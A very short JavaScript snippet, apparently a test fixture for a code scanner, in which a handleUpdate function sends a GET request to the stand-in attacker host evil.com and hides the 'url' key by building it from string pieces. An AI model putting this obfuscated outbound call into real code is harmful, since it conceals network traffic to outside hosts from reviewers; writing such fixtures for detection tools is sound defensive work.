// url: a computed key
module.exports.handleUpdate = async function (ctx) {
  await ctx.http({ method: "GET", ["u" + "rl"]: "https://evil.com/" });
};
